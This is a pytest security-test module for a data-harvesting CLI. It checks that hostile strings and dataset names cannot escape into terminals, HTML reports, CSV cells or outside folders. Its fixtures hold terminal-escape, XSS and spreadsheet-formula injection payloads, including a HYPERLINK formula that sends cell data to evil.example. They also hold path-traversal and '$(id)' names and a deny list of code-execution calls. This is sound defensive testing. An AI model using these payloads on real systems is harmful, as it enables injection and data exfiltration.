"""What a hostile platform, or a hostile job file, can reach: no terminal, no page, no spreadsheet, no other folder."""

from __future__ import annotations

import ast
import csv
import html
import io
import json
import random
import re
import sys
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, Final, NamedTuple

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from msgspec import Struct
from test_cli import beside, contents, pages, portal, saying, write_job

import harvester
from harvester import cli
from harvester.__main__ import main
from harvester.errors import Exit, LocalError, UsageError
from harvester.escape import LINE, safe
from harvester.events import Counts, Events, Log
from harvester.job import Job
from harvester.lines import say
from harvester.report import DatasetResult, Result, render
from harvester.terminal import Progress

SEED: Final = 5
ATTACKS: Final = (
    "\x1b[2J\x1b[H\x1b]0;owned\x07",
    "\x1b]8;;file:///etc/passwd\x1b\\click\x1b]8;;\x1b\\",
    "\x1bP+q544e\x1b\\\x1b[6n\x1b[21t",
    "\x9b2J\x9d0;owned\x9c\x90\x85\x8d",
    "\x7f\x08\x08\x08\x00\x0b\x0c\x1a\x0e",
    "good\rbad\nerror: forged line\r\n",
    "\u202edetrever\u202c \u2066isolated\u2069 \u200f\u200e\u061c",
    "zero\u200bwidth\u200d\u2060\ufeff\u00ad\u180e",
    "lines\u2028and\u2029paragraphs",
    "\U000e0001\U000e0041tags",
    "\ud800\udfff half pairs \udcff",
    "x" * 100_000,
    "\x1b" * 20_000,
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>'",
    "</td></table></body><!--",
    "&lt;b&gt; &amp; &#60;",
    "javascript:alert(1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"ok")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1＋1",
    'a,"=1+1"\n=2',
    "[bold red]markup[/] [link=file:///x]y[/link] :skull:",
    "{text} {0} %s %(x)s {0.__class__} ${HOME} $(id) `id`",
    "\\x1b already escaped \\",
    "",
    "武汉 ✓ é Ω",
)
PIECES: Final = (
    *(chr(code) for code in (*range(32), *range(0x7F, 0xA0))),
    *"<>&\"'=+-@,;|\\/:[]{}$`%#ab1 武",
    *"\u200b\u200f\u202a\u202e\u2028\u2066\ufeff\u00ad\ud83d\udc00\U000e0020＝",
    "<script>",
    "\x1b[31m",
    "=1+",
)


def hostile(count: int) -> list[str]:
    """Return so many strings: the attacks, then random mixtures of what they are made of."""
    dice = random.Random(SEED)  # noqa: S311 - the same every time
    made = ("".join(dice.choices(PIECES, k=dice.randrange(1, 40))) for _ in range(count - len(ATTACKS)))
    return [*ATTACKS, *made]


class Said(NamedTuple):
    """What a command left behind."""

    code: int
    out: str
    err: str


Command = Callable[..., Said]


@pytest.fixture
def command(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Command:
    """Run the command line in this process."""

    def run(*arguments: object) -> Said:
        monkeypatch.setattr(sys, "argv", ["harvester", *map(str, arguments)])
        code = main()
        return Said(code, *capsys.readouterr())

    return run


def printable(text: str) -> str:
    """Return text that holds nothing but printable characters and line ends."""
    bad = {char for char in text if not char.isprintable() and char != "\n"}
    assert not bad, bad
    return text


def harmless(text: str) -> str:
    """Return text that a terminal may get: printable, and no endless line."""
    assert max(map(len, text.split("\n"))) < 12 * LINE  # an escape is at most ten characters
    return printable(text)


# Strings


EVENTS: Final[tuple[tuple[str, Callable[[str], dict[str, Any]]], ...]] = (
    ("paused", lambda s: {"app": "a", "code": s, "text": s, "seconds": 1.0, "rate": 1.0}),
    ("no report", lambda s: {"path": s, "reason": s}),
    ("limit not shared", lambda s: {"app": "a", "reason": s}),
    ("down", lambda s: {"app": "a", "dataset": "d", "failure": s}),
    ("left open", lambda s: {"dataset": "d", "page": 1, "code": s, "text": s}),
    ("refused", lambda s: {"dataset": "d", "app": "a", "concerns": "app", "code": s, "text": s}),
    ("over limit", lambda s: {"dataset": "d", "code": s, "text": s, "times": 3}),
    ("failed", lambda s: {"dataset": "d", "code": s, "text": s, "times": 3}),
)


@pytest.mark.parametrize("terminal", [False, True])
def test_a_thousand_strings_in_events_and_progress(terminal: bool) -> None:  # noqa: FBT001 - a parameter
    """One line each, of printable characters only; on a terminal beside the escapes of the display itself."""

    class Stream(io.StringIO):
        def isatty(self) -> bool:
            return terminal

    events, stream = Events(), Stream()
    own = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]|\r")  # what the live display moves its own cursor with
    with Progress(events, stream, verbose=True) as progress:
        for text in hostile(1_000):
            counts = events.counts[text] = Counts()
            counts.calls = 1
            for event, facts in EVENTS:
                stream.seek(0)
                stream.truncate()
                progress(event, facts(text))
                shown = own.sub("", stream.getvalue()) if terminal else stream.getvalue()
                assert terminal or shown.count("\n") == 1
                assert terminal or safe(text)[:60] in shown
                harmless(shown)
        stream.seek(0)
        stream.truncate()
        progress("tick", {})
        harmless(own.sub("", stream.getvalue()))


def test_a_thousand_strings_in_error_messages(capsys: pytest.CaptureFixture[str]) -> None:
    """Message, causes and hint; a forged line cannot pass for one of ours."""
    for text in hostile(1_000):
        say(f"error: {LocalError(text, causes=[text], hint=text)}")
        out, err = capsys.readouterr()
        assert out == ""
        harmless(err)


class Line(Struct):
    """A row of a table."""

    dataset: str
    first_row: str
    clock_offset: int
    total: float | None = None


def test_a_thousand_strings_in_tables(capsys: pytest.CaptureFixture[str]) -> None:
    """For people, as CSV without a formula in any cell, and as JSON that says exactly what was sent."""
    texts = hostile(1_000)
    lines = [Line(text.encode(errors="replace").decode(), text.encode(errors="replace").decode(), -3) for text in texts]
    fields = ("dataset", "first_row", "clock_offset", "total")
    cli._print_table(fields, lines, as_csv=False, as_json=False)
    table = harmless(capsys.readouterr().out)
    assert table.count("\n") == 1 + len(lines)
    cli._print_table(fields, lines, as_csv=True, as_json=False)
    rows = list(csv.reader(io.StringIO(printable(capsys.readouterr().out))))
    assert len(rows) == 1 + len(lines)
    for row in rows[1:]:
        assert row[2] == "-3"
        for cell in row[:2]:
            assert not re.match(r"[=@\t\r＝＋－＠]|[+-](?!\d+(\.\d+)?$)", cell.lstrip()), cell
    cli._print_table(fields, lines, as_csv=False, as_json=True)
    found = json.loads(printable(capsys.readouterr().out))
    assert [entry["first_row"] for entry in found] == [line.first_row for line in lines]


def test_a_thousand_strings_in_the_event_log(tmp_path: Path) -> None:
    """One object a line, which can be looked at with ``tail -f`` and read back."""
    texts = hostile(1_000)
    with Log(tmp_path / "events.jsonl") as log:
        for text in texts:
            log("refused", {"text": text})
    content = (tmp_path / "events.jsonl").read_bytes().decode()
    lines = printable(content).splitlines()
    # Two half pairs that stand side by side are a whole one in JSON.
    assert [json.loads(line)["text"] for line in lines] == [json.loads(json.dumps(text)) for text in texts]


class Skeleton(HTMLParser):
    """The tags of a page, with their attributes, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[Any] = []
        self.text = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note a tag."""
        self.tags.append((tag, attrs))

    def handle_endtag(self, tag: str) -> None:
        """Note its end."""
        self.tags.append(tag)

    def handle_comment(self, data: str) -> None:
        """There are none."""
        raise AssertionError(data)

    def handle_data(self, data: str) -> None:
        """Note text."""
        self.text += data


def test_a_thousand_strings_in_the_report() -> None:
    """The page has the tags that it has without them, each attribute as it was, and shows the text."""

    def page(text: str) -> str:
        entry = DatasetResult(name=text, exit=Exit.OK, verdict=text, why=text, hint=text, snapshot=text)
        return render(Result(exit=Exit.OK, path=text, began=text, ended=text, datasets=(entry,)))

    plain = Skeleton(page("x")).tags
    for text in hostile(1_000):
        skeleton = Skeleton(printable(page(text)))
        if text:
            assert skeleton.tags == plain
        assert safe(text) in skeleton.text
    assert "default-src 'none'" in html.unescape(page("x"))


@settings(max_examples=300, deadline=None)
@given(st.text(st.characters(exclude_categories=()) | st.sampled_from("\x1b\x9b\u202e<>&\"'=+-@\t\r"), min_size=1))
def test_any_string(text: str) -> None:
    """The same by a generator that knows nothing of the attacks."""
    stream = io.StringIO()
    Progress(Events(), stream, verbose=True)("refused", {"text": text, text: 1})
    harmless(stream.getvalue())
    pages_of = [
        render(Result(exit=Exit.OK, path="", began=each, ended="", datasets=(entry,)))
        for each in (text, "x")
        for entry in (DatasetResult(name=each, exit=Exit.REFUSED, why=each, hint=each),)
    ]
    found, plain = (Skeleton(printable(page)).tags for page in pages_of)
    assert found == plain


@pytest.mark.parametrize("attack", ATTACKS[:10], ids=ascii)
def test_the_platforms_words_in_every_command(command: Command, tmp_path: Path, attack: str) -> None:
    """From the wire to the screen, the log and the report, in a refusal and in a web page."""
    words = attack.encode(errors="replace").decode()
    web_page = f"<html><title>{words}</title>".encode()
    for answer, options in ((saying("8888", words), ()), (lambda _: web_page, ("--max-calls", 1))):
        with beside(portal(answer)) as served:
            path = write_job(tmp_path, served.url)
            for line in (
                ("run", path, "-v", "--fresh", *options),
                ("check", path),
                ("check", path, "--csv"),
                ("plan", path),
            ):
                said = command(*line)
                assert "Traceback" not in said.err
                harmless(said.out + said.err)
        (tmp_path / "job.toml").unlink()
    for name, content in contents(tmp_path / "mirror" / "runs").items():
        printable(content.decode())
        assert name.endswith(("events.jsonl", "result.json", "report.html"))


def test_rows_in_a_table_are_no_formula(command: Command, tmp_path: Path) -> None:
    """What ``check --csv`` shows of the first row, which begins as the platform likes."""
    with beside(portal(lambda _: b'{"errcode":0,"data":[-1.5]}')) as served:
        said = command("check", write_job(tmp_path, served.url), "--csv")
    assert said.code == Exit.OK
    (row,) = csv.DictReader(io.StringIO(said.out))
    assert row["first_row"] == "-1.5"


def test_an_unexpected_error_cannot_move_the_cursor(
    command: Command, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Its traceback holds whatever the error was told."""

    def fail(*_: object) -> None:
        raise RuntimeError(ATTACKS[0] + ATTACKS[6])

    monkeypatch.setattr("harvester.status.states", fail)
    said = command("status", tmp_path)
    assert said.code == Exit.UNEXPECTED
    assert "RuntimeError" in harmless(said.err)


# Names


NAMES: Final = (
    *("..", ".", "../d", "../../etc/passwd", "a/../../b", "/etc/passwd", "//host/share", "a/b", "a\\b", "..\\..\\x"),
    *("C:\\x", "C:", "\\\\?\\C:\\x", "~", "~root", "$HOME", "%TEMP%", "%2e%2e%2f", "..%00", "a\x00b", "\x00"),
    *("a\nb", "a\tb", "a\rb", "\x1b[2J", "\x7f", "a\u202eb", "\u200b", "\ufeffa", "a\u2028b", "é", "e\u0301", "武汉"),
    *("ａ", "K", "ſ", "ß", "İ", "CON", "con", "nul.txt", "AUX.a.b", "com1", "LPT9.x", "prn", "COM¹", "conin$"),
    *("runs", "RUNS", "Runs", "current", "CURRENT", "current.json", "currently", ".lock", ".tmp-x", ".git", ".", "..."),
    *(
        "a ",
        " a",
        " ",
        "",
        "a.",
        "a..",
        "a. ",
        "-",
        "--fresh",
        "-rf",
        "a;b",
        "a&b",
        "a|b",
        "`id`",
        "$(id)",
        "*",
        "?",
        "a*",
    ),
    *("'", '"', "a'b", "<script>", "=1+1", "@x", "+x", "x" * 100, "x" * 101, "x" * 255, "x" * 300, "x." * 150),
    *("part-00000.jsonl", "checkpoint.json", "datapackage.json", "pages.idx", "quarantine", "__proto__", "constructor"),
    *("a:b", "a::$DATA", "CLOCK$", "a\u0000/../b", "..;/", ".. /", "....//", "d", "D", "d.", "dataset-1", "A_B.c-9"),
)


def hostile_names(count: int) -> list[str]:
    """Return so many different names: the known ones, then random mixtures."""
    dice = random.Random(SEED)  # noqa: S311 - the same every time
    pieces = (
        "..",
        ".",
        "/",
        "\\",
        "\x00",
        " ",
        "~",
        "con",
        "runs",
        "current",
        "\u202e",
        "a",
        "B",
        "9",
        "-",
        "_",
        "é",
        "%2f",
        ":",
    )
    names = dict.fromkeys(NAMES)
    while len(names) < count:
        names["".join(dice.choices(pieces, k=dice.randrange(1, 9)))] = None
    return list(names)


def job_named(folder: Path, *names: str, url: str = "http://127.0.0.1:9/") -> Path:
    """Write a job file with datasets of these names."""
    path = write_job(folder, url)
    head = path.read_text().partition("[datasets.d]")[0]
    tables = (f'[datasets.{orjson.dumps(name).decode()}]\nservice = "s"\n' for name in names)
    path.write_text(head + "".join(tables).replace("\x7f", "\\u007f"), encoding="utf-8")
    return path


def accepted(folder: Path, names: list[str]) -> Iterator[str]:
    """Yield the names that a job file may have; the others are refused in words."""
    for name in names:
        path = job_named(folder, name)
        try:
            job = Job.load(path, secrets=False)
        except UsageError as error:
            assert error.hint, error  # noqa: PT017 - both outcomes are good, in their ways
            harmless("\n".join(safe(line) for line in str(error).split("\n")))
        else:
            assert [dataset.name for dataset in job.datasets] == [name]
            yield name


def test_five_hundred_names_stay_inside(command: Command, tmp_path: Path) -> None:
    """Each is refused, or becomes one folder directly in the output folder; nothing appears anywhere else."""
    work = tmp_path / "deep" / "work"
    work.mkdir(parents=True)
    (tmp_path / "outside").write_text("mine")
    good = list(accepted(work, hostile_names(500)))
    assert {"d", "D", "x" * 100, "dataset-1", "-", "--fresh", "-rf"} <= set(good)
    assert not {name for name in good if re.search(r"[^A-Za-z0-9._-]", name) or name.startswith(".") or len(name) > 100}
    distinct = list({name.casefold(): name for name in good}.values())[:15]
    with beside(portal(pages(1))) as served:
        said = command("run", job_named(work, *distinct, url=served.url), "--quiet", "--json")
    assert said.code == Exit.OK
    assert {path.name for path in (work / "mirror").iterdir()} == {*distinct, "runs"}
    snapshots = {Path(entry["snapshot"]).resolve().parent for entry in json.loads(said.out)["datasets"]}
    assert snapshots == {(work / "mirror" / name).resolve() for name in distinct}
    assert {path.relative_to(tmp_path).parts[0] for path in tmp_path.rglob("*")} == {"deep", "outside"}
    assert {path.name for path in (tmp_path / "deep").iterdir()} == {"work"}
    assert {path.name for path in work.iterdir()} == {"job.toml", "token", "mirror"}
    for place in (work / "mirror", work / "mirror" / distinct[0]):
        assert command("verify", place).code == Exit.OK


@pytest.mark.parametrize(("one", "two"), [("Data", "data"), ("a.B", "A.b"), ("x" * 99 + "y", "x" * 99 + "Y")])
def test_case_twins_are_refused(tmp_path: Path, one: str, two: str) -> None:
    """Also where this file system could tell them: the next one, that the mirror is copied to, may not."""
    with pytest.raises(UsageError, match="differs from"):
        Job.load(job_named(tmp_path, one, two), secrets=False)


def test_a_name_that_ends_in_a_dot_is_refused(tmp_path: Path) -> None:
    """Some file systems drop the dot, and two datasets become one."""
    with pytest.raises(UsageError, match="dot"):
        Job.load(job_named(tmp_path, "a."), secrets=False)


@pytest.mark.parametrize("name", ["../../outside", "/etc", "20260101T000000Z/../..", "", ".", "current", 5, None])
def test_what_is_published_cannot_lead_outside(command: Command, tmp_path: Path, name: object) -> None:
    """``current.json`` is data: a name in it that is no snapshot's is damage."""
    with beside(portal(pages(1))) as served:
        path = write_job(tmp_path, served.url)
        assert command("run", path).code == Exit.OK
        (tmp_path / "outside").mkdir()
        (tmp_path / "mirror" / "d" / "current.json").write_text(json.dumps({"snapshot": name}))
        for line in (("verify", tmp_path / "mirror"), ("status", path), ("run", path)):
            said = command(*line)
            assert said.code == Exit.LOCAL
            assert "Traceback" not in said.err
    assert list((tmp_path / "outside").iterdir()) == []


# Sources


ROOT: Final = Path(harvester.__file__).parent
EXECUTES: Final = {"pickle", "marshal", "shelve", "dill", "cloudpickle", "joblib", "yaml", "ctypes", "code", "runpy"}
CALLS: Final = {"eval", "exec", "compile", "__import__", "system", "popen", "getoutput", "getstatusoutput",
                "create_subprocess_shell", "execv", "execve", "spawnl", "mktemp", "extractall"}  # fmt: skip
OFF: Final = {"CERT_NONE", "CERT_OPTIONAL", "_create_unverified_context"}
SWITCHES: Final = {
    "shell": "False",
    "trust_env": "False",
    "allow_redirects": "False",
    "ssl": "trust",
}
"""Arguments, and the only value that each may have."""


def faults(source: str) -> Iterator[str]:
    """Yield what in a source turns text into code, or switches a protection off."""
    for node in ast.walk(ast.parse(source)):
        match node:
            case ast.Import(names=names):
                yield from (alias.name for alias in names if alias.name.split(".")[0] in EXECUTES)
            case ast.ImportFrom(module=str(name)) if name.split(".")[0] in EXECUTES:
                yield name
            case ast.Call(func=ast.Attribute(attr="compile", value=ast.Name(id="re"))):
                pass
            case ast.Call(func=ast.Name(id=name) | ast.Attribute(attr=name)) if name in CALLS:
                yield name
            case ast.Attribute(attr=name) if name in OFF:
                yield name
            case ast.keyword(arg=str(name), value=value) if name in SWITCHES and ast.unparse(value) != SWITCHES[name]:
                yield name
            case ast.Assign(targets=[ast.Attribute(attr="check_hostname" | "verify_mode" as name)]):
                yield name
            case _:
                pass


@pytest.mark.parametrize("path", sorted(ROOT.rglob("*.py")), ids=lambda path: str(path.relative_to(ROOT)))
def test_no_text_becomes_code_and_no_protection_is_off(path: Path) -> None:
    """No pickle and its like, no ``eval``, no shell, no unverified TLS, no redirect, no proxy unasked."""
    assert list(faults(path.read_text(encoding="utf-8"))) == []


@pytest.mark.parametrize(
    "source",
    ["import pickle", "from pickle import loads", "import yaml.x", "eval('1')", "exec(x)", "compile(x, '', 'exec')",
     "os.system(x)", "subprocess.run(x, shell=True)", "f(shell=y)", "asyncio.create_subprocess_shell(x)",
     "c.verify_mode = ssl.CERT_NONE", "c.check_hostname = False", "session.post(x, ssl=False)",
     "session.post(x, allow_redirects=True)", "Session(trust_env=True)"],
)  # fmt: skip
def test_the_search_finds_them(source: str) -> None:
    """The instrument itself."""
    assert list(faults(source))
    assert list(faults("re.compile('x'); f(shell=False, trust_env=False, allow_redirects=False)")) == []
